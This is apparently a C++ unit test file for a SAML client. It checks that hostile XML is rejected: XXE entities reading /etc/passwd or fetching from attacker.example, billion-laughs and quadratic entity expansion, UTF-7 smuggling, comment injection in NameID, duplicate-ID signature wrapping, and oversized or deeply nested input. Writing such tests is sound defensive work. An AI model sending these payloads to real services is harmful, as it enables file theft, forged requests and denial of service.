// XML that attacks its reader: entities, document types, comments, two of one ID, sizes.
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "tests/unit/idp_client/saml_fixture.h"
#include "xml/document.h"

namespace enkrat::idp_client {
namespace {

using ::enkrat::testing::FailsWith;
using ::enkrat::testing::IsOk;
using ::enkrat::testing::SamlAssertion;
using ::enkrat::testing::SamlResponseAround;
using ::enkrat::testing::SignSaml;

constexpr char kNoDtd[] = "document type declaration";

class SamlXmlAttackTest : public SamlFixture {
 protected:
  // Signed as `person-1`, sent with something else in its place.
  std::string Replaced(const std::string& with) const {
    return absl::StrReplaceAll(GoodResponse(), {{"person-1", with}});
  }
};

TEST_F(SamlXmlAttackTest, XmlDeclarationIsAccepted) {
  EXPECT_THAT(Verify("<?xml version=\"1.0\" encoding=\"utf-8\"?>" + GoodResponse()), IsOk());
  EXPECT_THAT(Verify("\xEF\xBB\xBF<?xml version='1.0'?>\n" + GoodResponse()), IsOk());
}

TEST_F(SamlXmlAttackTest, DocumentTypeDeclarationIsRejected) {
  EXPECT_THAT(Verify("<!DOCTYPE samlp:Response>" + GoodResponse()), IsRejectedSaying(kNoDtd));
  EXPECT_THAT(Verify("<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"http://attacker.example/d\">" +
                     GoodResponse()),
              IsRejectedSaying(kNoDtd));
}

TEST_F(SamlXmlAttackTest, XxeOfAFileIsRejected) {
  EXPECT_THAT(Verify("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + Replaced("&x;")),
              IsRejectedSaying(kNoDtd));
}

TEST_F(SamlXmlAttackTest, XxeByAParameterEntityIsRejected) {
  EXPECT_THAT(Verify("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;]>" +
                     GoodResponse()),
              IsRejectedSaying(kNoDtd));
  EXPECT_TRUE(fetcher_.requests().empty());
}

TEST_F(SamlXmlAttackTest, BillionLaughsAreRejected) {
  std::string entities = "<!ENTITY l0 \"lol\">";
  for (int i = 1; i < 10; ++i) {
    absl::StrAppend(&entities, "<!ENTITY l", i, " \"");
    for (int j = 0; j < 10; ++j) absl::StrAppend(&entities, "&l", i - 1, ";");
    absl::StrAppend(&entities, "\">");
  }
  EXPECT_THAT(Verify(absl::StrCat("<!DOCTYPE r [", entities, "]>", Replaced("&l9;"))),
              IsRejectedSaying(kNoDtd));
}

TEST_F(SamlXmlAttackTest, QuadraticBlowUpIsRejected) {
  std::string uses;
  for (int i = 0; i < 1000; ++i) absl::StrAppend(&uses, "&a;");
  EXPECT_THAT(Verify(absl::StrCat("<!DOCTYPE r [<!ENTITY a \"", std::string(10'000, 'a'), "\">]>",
                                  Replaced(uses))),
              IsRejectedSaying(kNoDtd));
}

TEST_F(SamlXmlAttackTest, DocumentTypeInAnotherEncodingIsRejected) {
  // UTF-7 spells "<!" without either character.
  EXPECT_THAT(
      Verify("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE r+AD4-" + GoodResponse()),
      IsRejectedSaying("not in UTF-8"));
  std::string utf16 = "<";  // little-endian
  for (const char c : "?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r>") {
    utf16.push_back(c);
    utf16.push_back('\0');
  }
  EXPECT_THAT(Verify(utf16), FailsWith(Reason::kAssertionRejected));
}

TEST_F(SamlXmlAttackTest, UndeclaredEntityIsRejected) {
  EXPECT_THAT(Verify(Replaced("&x;")), IsRejectedSaying("not well-formed"));
}

TEST_F(SamlXmlAttackTest, InvalidUtf8IsRejected) {
  EXPECT_THAT(Verify(Replaced("person-\xC0\xAF")), IsRejectedSaying("not well-formed"));
}

TEST_F(SamlXmlAttackTest, UndeclaredPrefixIsRejected) {
  EXPECT_THAT(Verify(SamlResponseAround(SignSaml(key_, GoodAssertion().Xml()),
                                        {.before_xml = "<x:Status></x:Status>"})),
              IsRejectedSaying("not well-formed"));
}

// The comment splits a text in two, the signature does not see it, and a reader that takes the
// first piece is somebody else's (CVE-2017-11427 and its siblings).
TEST_F(SamlXmlAttackTest, CommentInTheNameIdIsRejected) {
  SamlAssertion assertion = GoodAssertion();
  assertion.name_id_xml = "person-1.attacker.example";
  const std::string response =
      absl::StrReplaceAll(Respond(assertion), {{"person-1.attacker", "person-1<!-- -->.attacker"}});
  EXPECT_THAT(Verify(response), IsRejectedSaying("holds a comment"));
}

TEST_F(SamlXmlAttackTest, CommentInAnAttributeIsRejected) {
  const std::string response =
      absl::StrReplaceAll(GoodResponse(), {{"Novak</saml", "No<!---->vak</saml"}});
  EXPECT_THAT(Verify(response), IsRejectedSaying("holds a comment"));
}

TEST_F(SamlXmlAttackTest, ProcessingInstructionIsRejected) {
  SamlAssertion assertion = GoodAssertion();
  assertion.name_id_xml = "person-1<?x y?>.attacker.example";
  EXPECT_THAT(VerifyAssertion(assertion), IsRejectedSaying("processing instruction"));
}

TEST_F(SamlXmlAttackTest, CdataSectionIsRejected) {
  EXPECT_THAT(Verify(Replaced("<![CDATA[person-1]]>")), IsRejectedSaying("CDATA"));
}

TEST_F(SamlXmlAttackTest, ElementInTheNameIdIsRejectedThoughItIsSigned) {
  SamlAssertion assertion = GoodAssertion();
  assertion.name_id_xml = "person-1<saml:x></saml:x>.attacker.example";
  EXPECT_THAT(VerifyAssertion(assertion), IsRejectedSaying("NameID is not text alone"));
}

TEST_F(SamlXmlAttackTest, DuplicateIdsAreRejectedWhateverTheAttributeIsCalled) {
  for (const char* name : {"ID", "Id", "id", "xml:id"}) {
    const std::string twin =
        absl::StrCat("<samlp:Status ", name, "=\"_assertion-1\"></samlp:Status>");
    EXPECT_THAT(
        Verify(SamlResponseAround(SignSaml(key_, GoodAssertion().Xml()), {.before_xml = twin})),
        IsRejectedSaying("two elements have one ID"))
        << name;
  }
}

TEST_F(SamlXmlAttackTest, OversizedResponseIsRejected) {
  EXPECT_THAT(Verify(Replaced(std::string(256 * 1024, 'x'))), IsRejectedSaying("too long"));
  EXPECT_THAT(Verify(ToBase64(AsSpan(Replaced(std::string(256 * 1024, 'x'))))),
              IsRejectedSaying("too long"));
}

TEST_F(SamlXmlAttackTest, DeepNestingIsRejected) {
  std::string deep;
  for (int i = 0; i < 5000; ++i) absl::StrAppend(&deep, "<a>");
  EXPECT_THAT(Verify(Replaced(deep)), IsRejectedSaying("nested too deep"));
}

TEST_F(SamlXmlAttackTest, TooManyElementsAreRejected) {
  std::string many;
  for (int i = 0; i < 5000; ++i) absl::StrAppend(&many, "<a/>");
  EXPECT_THAT(Verify(Replaced(many)), IsRejectedSaying("too many elements"));
}

TEST_F(SamlXmlAttackTest, TooManyAttributesAreRejected) {
  std::string many = "<a";
  for (int i = 0; i < 100; ++i) absl::StrAppend(&many, " xmlns:a", i, "='b", i, "'");
  EXPECT_THAT(Verify(Replaced(many + "/>")), IsRejectedSaying("too many attributes"));
}

TEST_F(SamlXmlAttackTest, UnfinishedMarkupIsRejected) {
  const std::string response = GoodResponse();
  for (size_t size = 0; size < response.size(); size += 7) {
    EXPECT_THAT(Verify(response.substr(0, size)), FailsWith(Reason::kAssertionRejected));
  }
}

TEST_F(SamlXmlAttackTest, NeitherXmlNorBase64IsRejected) {
  for (const char* text : {"abc", " <samlp:Response/>", "eyJhbGciOiJub25lIn0.e30.", "%%%"}) {
    EXPECT_THAT(Verify(text), FailsWith(Reason::kAssertionRejected)) << text;
  }
}

}  // namespace
}  // namespace enkrat::idp_client
